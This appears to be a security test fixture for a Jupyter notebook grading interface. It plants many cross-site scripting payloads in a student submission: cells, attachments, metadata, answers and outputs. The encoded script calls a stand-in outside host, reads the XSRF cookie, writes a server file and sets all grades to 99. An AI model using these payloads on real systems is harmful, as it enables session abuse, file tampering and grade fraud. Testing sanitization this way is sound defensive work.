"""What a student can write that is meant to run in the browser of whoever opens it, each in another way."""

import base64

from nbformat.v4 import new_markdown_cell, new_raw_cell

ELSEWHERE = "http://elsewhere.invalid"
# With the rights of whoever looks: a dialog, a request elsewhere, a file of the server, full marks.
SCRIPT = """
alert("ran");
fetch("ELSEWHERE/stolen");
const token = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1];
const send = (address, body) =>
  fetch(address, {method: "PUT", headers: {"X-XSRFToken": token}, body: JSON.stringify(body)});
send("/api/contents/owned.txt", {type: "file", format: "text", content: "owned"});
fetch("/formgrader/api/grades?submission_id=" + window.submission_id)
  .then(answer => answer.json())
  .then(grades => grades.forEach(grade => send("/formgrader/api/grade/" + grade.id, {manual_score: 99})));
""".replace("ELSEWHERE", ELSEWHERE)
RUN = f"eval(atob('{base64.b64encode(SCRIPT.encode()).decode()}'))"
IMAGE = f'<img src="x" onerror="{RUN}">'

MARKDOWN = {
    "image": IMAGE,
    "vector image": f'<svg onload="{RUN}"><circle r="9" /></svg>',
    "animated vector image": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s" /></svg>',
    "script": f"<script>{RUN}</script>",
    "script that closes everything": f"</div></div></div></body></html><script>{RUN}</script>",
    "link": f"[look](<javascript:{RUN}>)",
    "link in disguise": f"[look](<&#106;ava&#115;cript:{RUN}>)",
    "link by its name": f"[look][1]\n\n[1]: <javascript:{RUN}>",
    "link in HTML": f'<a href="java&#10;script:{RUN}">look</a>',
    "link as data": f"[look](data:text/html;base64,{base64.b64encode(IMAGE.encode()).decode()})",
    "address of the server": "[look](/formgrader/api/status) <img src='/formgrader/api/status'>",
    "style": f"<style>@import url({ELSEWHERE}/a.css); body {{ background: url({ELSEWHERE}/b.png); }}</style>",
    "style of an element": f'<p style="background: url({ELSEWHERE}/c.png); position: fixed">on top</p>',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src="{ELSEWHERE}"></iframe>',
    "form": f'<form action="javascript:{RUN}"><button>look</button></form>',
    "field": f'<input autofocus onfocus="{RUN}"><textarea autofocus onfocus="{RUN}"></textarea>',
    "details": f'<details open ontoggle="{RUN}"><summary>more</summary></details>',
    "another page": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}"><base href="{ELSEWHERE}">',
    "sheet and object": f'<link rel="stylesheet" href="{ELSEWHERE}/d"><object data="{ELSEWHERE}/e"></object>',
    "formula's markup": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1'
    f' onerror={RUN.replace(chr(39), "`")}&gt;"></table></mtext></math>',
    "formula": f"$a < \\text{{{IMAGE}}}$ and $\\href{{javascript:{RUN}}}{{x}}$",
    "drawing": f"```mermaid\n{IMAGE}\n```",
    "language": f'```"><b>{IMAGE}\ncode\n```',
    "heading": f"# A {IMAGE}",
    "image from elsewhere": f"![]({ELSEWHERE}/f.png)",
    "comment": f"<!-- --!> {IMAGE} -->",
    "names of the page": '<input id="q4" class="score tabbable"><a id="formgrader">x</a>',
}

OUTPUTS = f"""
from IPython.display import HTML, Image, Javascript, SVG, display
bad = {IMAGE!r}
display(HTML(bad), Javascript({RUN!r}), SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{RUN}\\"/>"))
display({{"text/html": bad, "text/plain": bad}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
wide = {{"image/png": {{"width": bad, "alt": bad}}}}
display({{"image/png": 'x" onerror="' + {RUN!r}}}, raw=True, metadata=wide)
display({{"text/markdown": bad, "text/latex": "$" + bad + "$", "application/x": bad}}, raw=True)
display({{"text/plain": bad}}, raw=True, metadata={{"plaincourse": {{"title": bad}}}})
print(bad)
raise ValueError(bad)
"""


def fill(submission):
    """Put every hostile text into a student's notebook: cells, attachments, outputs, metadata, answers."""
    for name, source in MARKDOWN.items():
        submission.nb.cells.append(new_markdown_cell(f"{name}\n\n{source}"))
    drawn = new_markdown_cell("![a](attachment:a.svg) ![b](attachment:b.png) ![c](attachment:none.png)")
    vector = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'.encode()).decode()
    drawn["attachments"] = {
        "a.svg": {"image/svg+xml": vector},
        "b.png": {f'image/png" onerror="{RUN}': "", "image/png": f'x" onerror="{RUN}'},
    }
    submission.nb.cells += [drawn, new_raw_cell(IMAGE, metadata={"raw_mimetype": "text/html"})]
    submission.nb.cells[-1].metadata.tags = [f'"> {IMAGE}']
    submission.nb.metadata.update(
        title=IMAGE,
        widgets={"application/vnd.jupyter.widget-state+json": {"state": f"</script>{IMAGE}"}},
        language_info={"name": "python", "pygments_lexer": IMAGE},
    )
    submission["q4"].source = f"Because. {IMAGE} [look](<javascript:{RUN}>)"
    submission["q3"].source = f"def my_sigmoid(z):\n    raise ValueError({IMAGE!r})"
    return submission.add(OUTPUTS)
